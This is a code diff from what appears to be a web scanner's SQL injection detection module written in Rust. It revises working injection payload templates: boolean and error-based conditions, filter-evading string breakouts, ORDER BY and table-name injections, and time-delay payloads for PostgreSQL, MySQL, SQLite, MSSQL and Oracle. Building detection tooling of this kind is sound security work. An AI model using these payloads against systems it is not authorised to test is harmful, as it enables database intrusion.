@@ -7,8 +7,16 @@ use crate::http::Method;
 use crate::point::{Place, Point};
 use crate::proof::Proof;
 
-/// Conditions without the signs that filters for markup take away.
-const EQUAL: ([&str; 2], [&str; 2]) = (["37=37", "NOT 37=73"], ["37=73", "NOT 37=37"]);
+/// Conditions without the signs that filters for markup and for comparisons take away.
+const AMONG: ([&str; 2], [&str; 2]) = (["(37)IN(37)", "NOT(37)IN(73)"], ["(37)IN(73)", "NOT(37)IN(37)"]);
+
+/// What fails in SQLite, PostgreSQL and MySQL, where the number is too great, and by the division in the others; only where it is
+/// asked for.
+macro_rules! failure {
+    () => {
+        "abs(-9223372036854775807-1)/0"
+    };
+}
 
 /// Where a value may stand, as what is put in for a condition `{c}`; `{v}` is the usual value.
 fn places(point: &Point) -> Vec<String> {
@@ -21,21 +29,22 @@ fn places(point: &Point) -> Vec<String> {
         && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ','))
         && !value.starts_with(',');
     let name = point.name.to_ascii_lowercase();
-    let is_direction = ["asc", "desc"].iter().any(|word| value.eq_ignore_ascii_case(word));
-    let sorts = is_direction
+    let sorts = is_direction(value)
         || ["sort", "order", "dir", "col", "by", "group", "field", "select"]
             .iter()
             .any(|word| name.contains(word));
     let numbers = [
-        "(CASE WHEN {c} THEN {v} ELSE 0-1 END)",
+        // Behind the value, for filters that look at its beginning; also where a number is all that may stand.
+        concat!("{v}-(CASE WHEN {c} THEN 0 ELSE ", failure!(), " END)"),
         "{v} AND {c}",
         "{v}) AND ({c}",
         "{v}/**/AND/**/{c}",
         "{v}^({c})^1",
     ];
     let strings = [
-        "{v}'||(CASE WHEN {c} THEN '' ELSE 'zq' END)||'",
-        "{v}' AND {c} AND 'a' LIKE 'a",
+        // Without blanks and comments; true leaves the value as it is.
+        "{v}'||(SELECT''WHERE({c}))||'",
+        "{v}' AND {c} AND '{w}' LIKE '{w}",
         "{v}%' AND {c} AND 'a' LIKE 'a",
         "{v}\" AND {c} AND \"a\" LIKE \"a",
         "{v}' AND {c}-- ",
@@ -48,11 +57,10 @@ fn places(point: &Point) -> Vec<String> {
     ];
     let orders = [
         "(CASE WHEN {c} THEN {v} ELSE NULL END)",
-        "{v},(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)",
-        "{v},(SELECT 1/(CASE WHEN {c} THEN 1 ELSE 0 END))",
-        "(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END) {v}",
+        concat!("{v},(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END)"),
+        concat!("(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END) {v}"),
         "{v},(SELECT(CASE WHEN {c} THEN 1 ELSE(SELECT 1 UNION SELECT 2)END))",
-        "{v}\"||(CASE WHEN {c} THEN '' ELSE NULL END)||\"{v}",
+        concat!("{v}\",(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END),\"{v}"),
         "{v}`*(CASE WHEN {c} THEN 1 ELSE NULL END)*`{v}",
         "{v}]*(CASE WHEN {c} THEN 1 ELSE NULL END)*[{v}",
     ];
@@ -69,8 +77,10 @@ fn places(point: &Point) -> Vec<String> {
     list.extend(strings);
     if is_name && !sorts && !is_number {
         list.extend(orders.iter().take(1));
+        list.extend(is_source(point).then_some("{v} WHERE {c}-- "));
     }
-    let mut list: Vec<String> = list.into_iter().map(str::to_owned).collect();
+    let word = ending(value);
+    let mut list: Vec<String> = list.into_iter().map(|place| place.replace("{w}", word)).collect();
     if let Some((stem, ending)) = value.rsplit_once('.')
         && !is_number
         && (2..=4).contains(&ending.len())
@@ -79,6 +89,18 @@ fn places(point: &Point) -> Vec<String> {
         list.push(format!("{stem}' AND {{c}} AND 'a' LIKE 'a.{ending}"));
     }
     list
+}
+
+/// What a value that is put in may end with: the value itself, since some filters look at its end, unless it has signs of its own.
+fn ending(value: &str) -> &str {
+    let is_plain = |letter: char| letter.is_alphanumeric() || " .@:-".contains(letter);
+    if (1..=24).contains(&value.len()) && value.chars().all(is_plain) { value } else { "a" }
+}
+
+/// Whether a parameter may name the table that is asked.
+fn is_source(point: &Point) -> bool {
+    let name = point.name.to_ascii_lowercase();
+    ["table", "tbl", "source", "entity", "model"].iter().any(|word| name.contains(word))
 }
 
 /// Where the value is a name to which another value is compared, without quotes and within those of each database.
@@ -104,12 +126,15 @@ const ADDING: &[&str] = &[
     "{v}zq' oR {c}#",
 ];
 
-/// Conditions whose failure is an error that shows as one.
+/// Conditions whose failure is an error that shows as one. The second is for MySQL, where a comparison by `LIKE` leaves texts as they
+/// are, so that it fails in no statement that changes rows.
 const FAILING: &[&str] = &[
-    "{v}'||(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)||'",
-    "{v}'||(1/(CASE WHEN {c} THEN 1 ELSE 0 END))||'",
-    "{v}' AND 1=(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END) AND 'a' LIKE 'a",
+    concat!("{v}'||(CASE WHEN {c} THEN 1 ELSE ", failure!(), " END)||'"),
+    concat!("{v}' LIKE (CASE WHEN {c} THEN 1 ELSE ", failure!(), " END) LIKE '1"),
 ];
+
+/// Most places that are tried in a part of a path.
+const MOST_OF_ROUTE: usize = 4;
 
 /// Proves a difference between conditions.
 pub(super) async fn by_choice(
@@ -125,9 +150,9 @@ pub(super) async fn by_choice(
     let others = adding.iter().chain(failing).copied();
     let list: Vec<&str> = narrowing.iter().map(String::as_str).chain(others).collect();
     for template in &list {
-        // What fails on purpose is answered like a plain word where it does not fail.
-        let fails = ["abs(", "1/(", "UNION SELECT"].iter().any(|word| template.contains(word));
-        let beside = (!fails).then_some(known);
+        // What fails on purpose may be answered like a plain word where it does not fail.
+        let fails = ["abs(", "UNION SELECT"].iter().any(|word| template.contains(word));
+        let beside = (!fails || known.matters).then_some(known);
         if let Some(found) = choose(bench, entry, (point, beside), template, CONDITIONS).await {
             return Some(found);
         }
@@ -136,7 +161,30 @@ pub(super) async fn by_choice(
         return None;
     }
     for template in list.iter().take(4) {
-        if let Some(found) = choose(bench, entry, (point, Some(known)), template, EQUAL).await {
+        if let Some(found) = choose(bench, entry, (point, Some(known)), template, AMONG).await {
+            return Some(found);
+        }
+    }
+    None
+}
+
+/// The same, in few requests, for the last part of a path where other words are answered as addresses that are not there.
+pub(super) async fn behind_route(
+    bench: &Bench<'_>,
+    entry: &Entry,
+    (point, known): (&Point, &Facts),
+) -> Option<(String, Proof)> {
+    let Place::Path(at) = *point.place.outer() else { return None };
+    if at + 2 != entry.request.url.path.split('/').count() {
+        return None;
+    }
+    let is_likely = |place: &String| {
+        ["{v}-(CASE", "{v} AND {c}", "{v}'||(SELECT"].iter().any(|begin| place.starts_with(begin))
+            || place.contains("LIKE 'a.")
+            || place.ends_with(&format!("LIKE '{}", ending(&point.value)))
+    };
+    for template in places(point).iter().filter(|place| is_likely(place)).take(MOST_OF_ROUTE) {
+        if let Some(found) = choose(bench, entry, (point, Some(known)), template, AMONG).await {
             return Some(found);
         }
     }
@@ -223,17 +271,28 @@ const NUMBERS: [&str; 9] = [
     "{v}-(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
 ];
 
-/// What waits behind the name of a column, or behind `ASC` and `DESC`: without quotes and within those of each database. What
+/// What waits behind the name of a column, wherever that may stand: without quotes and within those of each database. What
 /// stands in the comment of the second is for strings in double quotes.
 const NAMES: [&str; 8] = [
-    concat!("{v},", postgres!()),
-    concat!("{v},", mysql!(), "/*\"-", mysql!(), "-\"*/"),
-    concat!("{v},", sqlite!()),
+    concat!("{v}||", postgres!()),
+    concat!("{v}-", mysql!(), "/*\"-", mysql!(), "-\"*/"),
+    concat!("{v}||", sqlite!()),
     concat!("{v}\"||", postgres!(), "||\"{v}"),
     concat!("{v}`-", mysql!(), "-`{v}"),
     concat!("{v}\"||", sqlite!(), "||\"{v}"),
     "{v} WAITFOR DELAY '0:0:{t}'-- ",
     "{v},(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
+];
+
+/// The same behind `ASC` and `DESC`.
+const DIRECTIONS: [&str; 3] =
+    [concat!("{v},", postgres!()), concat!("{v},", mysql!()), concat!("{v},", sqlite!())];
+
+/// What waits beside the table that a value names.
+const SOURCES: [&str; 3] = [
+    "{v} CROSS JOIN pg_sleep({t})zq",
+    "{v} CROSS JOIN (SELECT SLEEP({t}))zq",
+    concat!("{v} CROSS JOIN (SELECT ", sqlite!(), ")zq"),
 ];
 
 /// What waits, in each database's own way; `{t}` are seconds.
@@ -258,7 +317,8 @@ pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
     list.push("{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'");
     list.push("{v}');SELECT pg_sleep({t})-- ");
     if is_name(&point.value) && !is_number {
-        list.extend(NAMES);
+        list.extend(if is_direction(&point.value) { DIRECTIONS.as_slice() } else { NAMES.as_slice() });
+        list.extend(is_source(point).then_some(SOURCES).into_iter().flatten());
         list.push("(SELECT 1 FROM (SELECT pg_sleep({t}))zq)");
     } else {
         list.push(concat!("{v}\"-", mysql!(), "-\""));
@@ -269,6 +329,11 @@ pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
 /// Whether a value is a number, or several with commas between them.
 pub(super) fn is_number(value: &str) -> bool {
     value.split(',').all(|part| part.trim().parse::<f64>().is_ok())
+}
+
+/// Whether a value is the direction of an order.
+fn is_direction(value: &str) -> bool {
+    ["asc", "desc"].iter().any(|word| value.eq_ignore_ascii_case(word))
 }
 
 /// Whether a value could be the name of a column, or several.
